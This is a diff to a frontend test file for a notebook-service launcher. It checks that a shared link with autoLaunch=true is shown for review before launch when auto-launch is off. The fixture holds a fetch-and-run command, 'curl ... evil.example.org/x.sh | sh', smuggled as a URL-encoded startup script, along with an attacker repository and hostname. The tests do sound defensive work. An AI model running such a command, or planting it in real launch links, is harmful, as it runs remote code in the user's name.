@@ -1,9 +1,9 @@
 import { fireEvent, screen, waitFor, within } from "@testing-library/react";
 import userEvent from "@testing-library/user-event";
 import { beforeEach, describe, expect, it } from "vitest";
-import type { Chart, Service } from "../../api/types";
+import type { Chart, FormField, Service } from "../../api/types";
 import { fixture } from "../../test/launchForms";
-import { apiError, mockApi, type MockRoutes } from "../../test/mockApi";
+import { apiError, mockApi, testConfig, type MockRoutes } from "../../test/mockApi";
 import { renderApp } from "../../test/render";
 
 const chart: Chart = {
@@ -150,8 +150,8 @@ describe("the launcher", () => {
     expect(within(alert).queryByRole("button", { name: "Retry" })).toBeNull();
   });
 
-  it("launches at once, once, with autoLaunch=true, and drops it from the address", async () => {
-    const m = api();
+  it("launches at once, once, with autoLaunch=true where the instance allows it, and drops it from the address", async () => {
+    const m = api({ "GET /config": { ...testConfig, features: { commandPanel: true, autoLaunch: true, allCatalogs: true } } });
     const { router } = renderApp("/launcher/ide/jupyter?name=nb&autoLaunch=true&git.enabled=false", m.client);
     expect(await screen.findByRole("heading", { name: "Launching nb…" })).toBeTruthy();
     await waitFor(() => expect(router.state.location.search).toBe("?name=nb&git.enabled=false"));
@@ -159,6 +159,94 @@ describe("the launcher", () => {
     // The form was asked once: the address change does not reload it.
     expect(m.find("GET", "/projects/user-alice/launch/form")).toHaveLength(1);
     expect(m.find("GET", "/projects/user-alice/launch/form")[0]!.query.get("link")).toBe("name=nb&git.enabled=false");
+  });
+
+  // ui.features.auto_launch is off by default: a link from anyone must not start a service, and
+  // its init script, in the user's name before they have seen what it changes.
+  describe("a link with autoLaunch=true, auto-launch off", () => {
+    const script = "curl -s https://evil.example.org/x.sh | sh";
+    const raw =
+      "name=nb&startup.script=%C2%ABcurl%20-s%20https%3A%2F%2Fevil.example.org%2Fx.sh%20%7C%20sh%C2%BB" +
+      "&git.repository=%C2%ABhttps%3A%2F%2Fevil.example.org%2Frepo.git%C2%BB&resources.limits.memory=%C2%AB8Gi%C2%BB" +
+      "&ingress.hostname=%C2%ABnb.evil.example.org%C2%BB&git.enabled=false&autoLaunch=true";
+    // The server applies the link and says what it changed from the pre-filled values.
+    const linkedForm = () =>
+      api({
+        "GET /projects/:project/launch/form": () => {
+          const form = fixture("jupyter");
+          const set = (fields: FormField[] | undefined, path: string, value: unknown) => {
+            for (const f of fields ?? []) {
+              if (f.path === path) f.value = value;
+              set(f.fields, path, value);
+            }
+          };
+          const changes = [
+            { path: "git.enabled", value: false },
+            { path: "git.repository", value: "https://evil.example.org/repo.git" },
+            { path: "ingress.hostname", value: "nb.evil.example.org" },
+            { path: "resources.limits.memory", value: "8Gi" },
+            { path: "startup.script", value: script },
+          ];
+          for (const c of changes) set(form.root?.fields, c.path, c.value);
+          return { form: { ...form, linkChanges: changes }, catalog: "ide", allowSharing: false };
+        },
+      });
+
+    it("lists what the link changes, the script and the addresses flagged, and launches only when asked", async () => {
+      const m = linkedForm();
+      const user = userEvent.setup();
+      const { router } = renderApp(`/launcher/ide/jupyter?${raw}`, m.client);
+      const screenOf = await screen.findByRole("region", { name: "Check this launch link" });
+      expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
+      expect(screen.queryByRole("tablist", { name: "Settings" })).toBeNull();
+      expect(within(screenOf).getByText(/runs a script in your service/)).toBeTruthy();
+
+      const row = (title: string) => within(screenOf).getByRole("rowheader", { name: new RegExp(title) }).closest("tr") as HTMLElement;
+      const scriptRow = row("Startup script");
+      expect(within(scriptRow).getByText("startup.script")).toBeTruthy();
+      expect(within(scriptRow).getByText(script)).toBeTruthy();
+      expect(within(scriptRow).getByText("Script")).toBeTruthy();
+      expect(within(row("Repository to clone")).getByText("URL")).toBeTruthy();
+      expect(within(row("Repository to clone")).getByText("https://evil.example.org/repo.git")).toBeTruthy();
+      expect(within(row("Host name")).getByText("Hidden in the form")).toBeTruthy();
+      expect(within(row("Memory limit")).getByText("8Gi")).toBeTruthy();
+      expect(within(row("Memory limit")).queryByText("Script")).toBeNull();
+      expect(within(row("Memory limit")).queryByText("URL")).toBeNull();
+      expect(within(row("Configure git")).getByText("false")).toBeTruthy();
+      expect(within(screenOf).getByText("nb")).toBeTruthy(); // the service's name, from the link
+
+      await user.click(within(screenOf).getByRole("button", { name: "Launch" }));
+      expect(await screen.findByRole("heading", { name: "Launching nb…" })).toBeTruthy();
+      const posts = m.find("POST", "/projects/user-alice/services");
+      expect(posts).toHaveLength(1);
+      const body = posts[0]!.body as { name: string; values: { startup: { script: string }; resources: { limits: { memory: string } } } };
+      expect(body.name).toBe("nb");
+      expect(body.values.startup.script).toBe(script);
+      expect(body.values.resources.limits.memory).toBe("8Gi");
+      await waitFor(() => expect(router.state.location.search).not.toContain("autoLaunch"));
+      expect(m.find("GET", "/projects/user-alice/launch/form")).toHaveLength(1);
+    });
+
+    it("cancelled, launches nothing and leaves the link's settings in the form to check", async () => {
+      const m = linkedForm();
+      const user = userEvent.setup();
+      const { router } = renderApp(`/launcher/ide/jupyter?${raw}`, m.client);
+      const screenOf = await screen.findByRole("region", { name: "Check this launch link" });
+      await user.click(within(screenOf).getByRole("button", { name: "Cancel" }));
+      expect(await screen.findByRole("tablist", { name: "Settings" })).toBeTruthy();
+      expect(screen.queryByRole("region", { name: "Check this launch link" })).toBeNull();
+      expect(screen.getByText(/Nothing was launched/)).toBeTruthy();
+      await waitFor(() => expect(router.state.location.search).not.toContain("autoLaunch"));
+      expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
+    });
+
+    it("says so when the link changes none of the pre-filled values", async () => {
+      const m = api();
+      renderApp("/launcher/ide/jupyter?name=nb&autoLaunch=true", m.client);
+      const screenOf = await screen.findByRole("region", { name: "Check this launch link" });
+      expect(within(screenOf).getByText(/changes none of the values/)).toBeTruthy();
+      expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
+    });
   });
 
   it("copies a launch link with only the changed values", async () => {
